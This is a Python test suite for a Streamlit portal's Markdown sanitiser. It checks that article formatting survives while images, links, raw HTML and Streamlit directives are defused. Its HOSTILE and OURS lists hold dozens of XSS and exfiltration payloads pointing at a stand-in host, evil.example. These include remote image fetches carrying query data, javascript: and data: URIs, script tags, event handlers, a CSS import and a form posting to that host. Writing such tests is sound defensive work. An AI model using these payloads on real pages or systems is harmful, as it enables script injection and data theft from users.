"""An article's Markdown as it is drawn: the form stays, and nothing in it loads, leads away, hides or is Streamlit's own."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from streamlit.testing.v1 import AppTest

from portal.article_text import DEEPEST, DRAWN, JOINER, safe, visible
from tests import markup

FORBIDDEN = {"image", "link_open", "html_block", "html_inline"}
READER = MarkdownIt("commonmark", {"maxNesting": 200}).enable(["table", "strikethrough"])
HOST = "evil.example"
URL = f"http://{HOST}/x"

HOSTILE = [
    # pictures, in every form that fetches one
    f"![x]({URL})", f"![x](<{URL}>)", f'![x]({URL} "title")', f"![x]({URL}?q=secret)", f"![]({URL})", f"![x][r]\n\n[r]: {URL}",
    f"![r][]\n\n[r]: {URL}", f"![r]\n\n[r]: {URL}", f"![x][R]\n\n[r]: <{URL}> 'title'", f"[![x]({URL})]({URL})",
    f"![a ![b]({URL}) c]({URL})", f"![a\nb]({URL})", f"![x](\n{URL}\n)", f"# ![x]({URL})", f"- ![x]({URL})", f"> ![x]({URL})",
    f"> - 1. ![x]({URL})", f"| a |\n|---|\n| ![x]({URL}) |", f"**![x]({URL})**", f"~~![x]({URL})~~", f"`` ` `` ![x]({URL})",
    f"`a`![x]({URL})`b`", f"\\\\![x]({URL})", f"\\`![x]({URL})\\`", f"![x](http&colon;//{HOST}/x)", f"![x](http:&sol;&sol;{HOST})",
    f"!\u200b[x]({URL})", f"![x]\u200b({URL})", f"![\u202ex]({URL})", f"```\na\n```\n![x]({URL})", f"~~~\n```\n~~~\n![x]({URL})",
    f"    code\n\n![x]({URL})", f"x[^1]\n\n[^1]: ![x]({URL})", f"| `a\\|` ![x]({URL}) |\n|---|", f"a&#10;&#10;![x]({URL})",
    f"![x](//{HOST}/x)", f"{'>' * 30} ![x]({URL})",
    # links
    f"[x]({URL})", f"[x][r]\n\n[r]: {URL}", f"[r]\n\n[r]: {URL}", f"<{URL}>", "<a@evil.example>", f"[https://bank.example]({URL})",
    f"[[x]]({URL})", f"[a [b]({URL}) c]({URL})", f"[x](<{URL}> 'onmouseover=alert(1)')", f"[`x`]({URL})", f"[**x**]({URL})",
    "[x](mailto:a@evil.example)", "[x](javascript:alert(1))\n\n[y](mailto:z@evil.example)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)\n\n<ftp://evil.example>", "[x](java&Tab;script:alert(1)) <b>", "[x](//evil.example)",
    "[x](#top)", "[x](/people?remove=1)",
    # HTML
    "<script>alert(1)</script>", "a <script>alert(1)</script> b", f"<img src={URL}>", f"a <img src={URL} onerror=alert(1)> b",
    "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<!-- hidden words -->", "a <!-- hidden words --> b",
    "<?php echo 1 ?>", "<![CDATA[x]]>", "<!DOCTYPE html>", f"<div style='background:url({URL})'>x</div>",
    f"<style>@import '{URL}'</style>", f"<form action={URL}><input name=a></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", f"<a href={URL}>x</a>",
    f"<table background={URL}><tr><td>x</table>", f"<b>x</b>![x]({URL})", f"- <div>\n  ![x]({URL})\n  </div>", "&lt;script&gt; <b>",
    "<scr\u200bipt>alert(1)</script>", "a<br onload=alert(1)>b", f"x\n<div>\n\n![x]({URL})\n\n</div>", f"<p>![x]({URL})</p>",
    f"<p>\n\n![x]({URL})",
]  # fmt: skip
OURS = [  # nothing in markdown-it, but in Streamlit or once it is written anew
    f"````\n```\n![x]({URL})\n````", f"    ```\n    ![x]({URL})", f"~~~~\n````\n![x]({URL})\n~~~~",
    f"| `\\\\|![x]({URL})` |\n|---|\n| `\\|![x]({URL})` |", "<javascript:alert(1)>", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    f"http://a`` a`![x]({URL}) ``", f"a@b.cd``![x]({URL})``", ":red[x]", ":material/lock:", ":material_lock:", ":streamlit:",
    ":smile: :+1:", "$a$", "$$\na\n$$", ":blue-badge[x]", ":small[:gray[x]]", "::img{src=x}", ":::note\nx\n:::",
    ":color[x]{foreground=red}", "```mermaid\ngraph TD\n```", "```math\na\n```", "a -> b <-> c -- d >= e", "www.evil.example",
    "https://evil.example/a", "a@evil.example", "&#58;red&#91;x&#93;", "&colon;material_lock&colon;", "\\:red[x]", "12:30 :a: :b:",
    "http://.", f":small[:gray[x]]({URL})", "http://a|b|:www.x",
]  # fmt: skip


SIGNS = [
    *"![]()<>`*_~|:$\\#-=&@/ \n\t1a.\"'", "\n\n", "```", "---", "    ", "- ", "1. ", "> ", f"({URL})", "<b>", "www.", "&#10;", "\u200b",
    f"![x]({URL})", "[r]: ", "|---|", ":red[", "http://a", "a@b.cd", "``", "` `",
]  # fmt: skip


def tokens(text: str) -> Iterator[Token]:
    for token in READER.parse(text):
        yield token
        yield from token.children or []


def kinds(text: str) -> set[str]:
    return {token.type for token in tokens(text)}


def shown(text: str) -> str:
    """The words that a reader of the Markdown sees."""
    told = (token.content if not token.type.endswith("break") else "\n" for token in tokens(text) if token.type != "inline")
    return "".join(told).replace(JOINER, "")


def test_each_hostile_text_would_do_something() -> None:
    """The control: what is asserted below is not true of the texts as they came."""
    assert len(HOSTILE) >= 60
    assert [text for text in HOSTILE if not kinds(visible(text)) & FORBIDDEN and text.count(">") < DEEPEST] == []


@pytest.mark.parametrize("text", HOSTILE + OURS)
@pytest.mark.parametrize(
    "within", ["%s", "Hello %s, thanks", "# %s", "> %s", "- a\n- %s", "**a** `b` %s", ":red[%s]", "| a | b |\n|---|---|\n| %s | c |"]
)
def test_nothing_hostile_is_left(text: str, within: str) -> None:
    check_harmless(safe(within.replace("%s", text)))


@pytest.mark.parametrize("payload", markup.payloads(HOST, 400), ids=lambda payload: f"{payload.family} {payload.number}")
def test_what_attacks_a_transcript_does_nothing_here(payload: markup.Payload) -> None:
    check_harmless(safe(payload.text))


# what remark makes of text after it is read (mdast-util-gfm-autolink-literal, remark-emoji, Streamlit's own), as Streamlit 1.67 has it
LATER = (
    r"(?i)(?:https?://|www(?=\.))[-.A-Za-z0-9_]+", r"[-.A-Za-z0-9_+]+@[-A-Za-z0-9_]+(?:\.[-A-Za-z0-9_]+)+", r":material_\w+:",
    r":streamlit:", r":\+1:|:-1:|:(?=[\w-]*[a-z])[\w-]+:", r"(?:^|\s)(?:<->|->|<-|--|>=|<=|~=)(?:\s|$)",
)  # fmt: skip


def check_harmless(out: str) -> None:
    found = list(tokens(out))
    assert not {token.type for token in found} & FORBIDDEN
    assert all(not token.info for token in found if token.type == "fence")
    for token in found:
        if token.type == "text":
            assert not any(re.search(pattern, token.content) for pattern in LATER), token.content
            assert visible(token.content) == token.content.replace(JOINER, "")
    assert "code_block" not in {token.type for token in found}
    outside = re.sub(r"(?ms)^(?:[> ]|[-*] |\d+[.)] )*(`{3,})\n.*?^[> ]*\1$", "", out)  # code between fences
    outside = re.sub(r"\\[^\w\s]|(`++)(?:.*?[^`])\1(?!`)", "x", outside)  # what is escaped, and code
    assert not re.search(r"[\[\]<$!]|:(?!-|\|)(?<!-:)", outside), outside  # the colons of a table's second line stay


@settings(deadline=None, max_examples=400)
@given(st.lists(st.sampled_from(SIGNS), max_size=40).map("".join))
def test_no_mixture_of_signs_gets_through(text: str) -> None:
    check_harmless(safe(text))


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=60))
def test_any_text_can_be_drawn(text: str) -> None:
    safe(text).encode()
    check_harmless(safe(text))


FRIENDLY = """# Returns

You can return **plants** and *tools* within 30 days, ~~14~~ not more: 5 > 3 & a_b_c.\\
Second line with `code | here` and `x`.

## Steps

1. Pack it.
2. Print the label:
   - small parcels
   - large parcels

   Then call us.

* another list

> Quoted **words**
>
> and more

| Size | Price |
|:--|--:|
| small | 4 € |
| large | `9 €` |

```python
if a < b:

    print("<b>")
```

---

End."""


def test_the_form_of_an_article_stays() -> None:
    def form(text: str) -> list[tuple[str, str, object]]:
        return [(token.type, token.tag, token.attrs.get("style", token.attrs.get("start"))) for token in READER.parse(text)]

    assert form(safe(FRIENDLY)) == form(FRIENDLY)
    assert shown(safe(FRIENDLY)).split() == shown(FRIENDLY).split()
    strong = [
        token.type for token in tokens(safe(FRIENDLY)) if token.type in ("strong_open", "em_open", "s_open", "code_inline", "hardbreak")
    ]
    assert sorted(strong) == ["code_inline", "code_inline", "em_open", "hardbreak", "s_open", "strong_open", "strong_open"]


def test_what_is_safe_stays_as_it_is() -> None:
    assert safe(safe(FRIENDLY)) == safe(FRIENDLY)


def test_headings_stand_below_the_pages_own() -> None:
    assert safe("# a\n\n### b\n\n##### c", under=2) == "### a\n\n##### b\n\n###### c"


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (f"[our page]({URL})", f"our page ({HOST})"),
        (f"[{HOST}]({URL})", HOST),
        ("[write us](mailto:help@example.com)", "write us (help@example.com)"),
        ("[call us](tel:+49123)", "call us (+49123)"),
        ("[further down](#returns)", "further down"),
        (f"<{URL}>", URL),
        (f"![a plant]({URL})", f"[picture: a plant ({HOST})]"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("a <b>bold</b><br>word", "a bold\nword"),
        ("a <!-- hidden --> b", "a <!-- hidden --> b"),
        ("a\u200b\u202eb\U000e0041\ufeff c", "ab c"),
        ("\U0001f469\u200d\U0001f33e a\u200db", "\U0001f469\u200d\U0001f33e ab"),
        ("**a.**b and **(c)**", "**a.**b and (c)"),
        ("see www.example.com/a, or a@example.com.", "see www.example.com/a, or a@example.com."),
        ("\ud800 half\0", " half"),
    ],
)
def test_what_a_reader_sees(text: str, says: str) -> None:
    assert shown(safe(text)).strip() == says.strip()


def test_what_is_nested_without_end_is_told_without_its_form() -> None:
    deep = "\n".join(f"{'> ' * level}level {level}" for level in range(1, DEEPEST + 20))
    assert f"level {DEEPEST + 19}" in shown(safe(deep)) and "blockquote_open" not in kinds(safe(deep))
    assert "blockquote_open" in kinds(safe("> > > a"))


@pytest.mark.parametrize("sign", ["[", "![", "[a](", "<", "*", "_a ", "`a", "> ", "- ", "|-|-\n", "~~", "[[]", "a@", "www.", "\\"])
def test_a_page_of_one_sign_is_drawn(sign: str) -> None:
    check_harmless(safe((sign * DRAWN)[:DRAWN])[:5_000].rpartition("\n")[0])


def script() -> None:
    import streamlit as st

    from portal import article_text

    article_text.show(st.session_state["text"])


def test_a_page_takes_a_part_of_a_very_long_article_and_says_so() -> None:
    app = AppTest.from_function(script)
    app.session_state["text"] = "# Title\n\n" + "word word\n\n" * 40_000
    app.run()
    assert not app.exception
    assert app.markdown[0].value.startswith("### Title\n\nword word") and len(app.markdown[0].value) <= DRAWN
    assert re.fullmatch(r"The rest, 340,0\d\d of 440,009 characters, is not drawn here: a page takes 100,000\.", app.caption[0].value)


def test_a_short_article_is_drawn_whole() -> None:
    app = AppTest.from_function(script)
    app.session_state["text"] = f"Hello ![x]({URL})"
    app.run()
    assert not app.caption and app.markdown[0].value == f"Hello \\[picture\\: x \\({HOST.replace('.', chr(92) + '.')}\\)\\]"
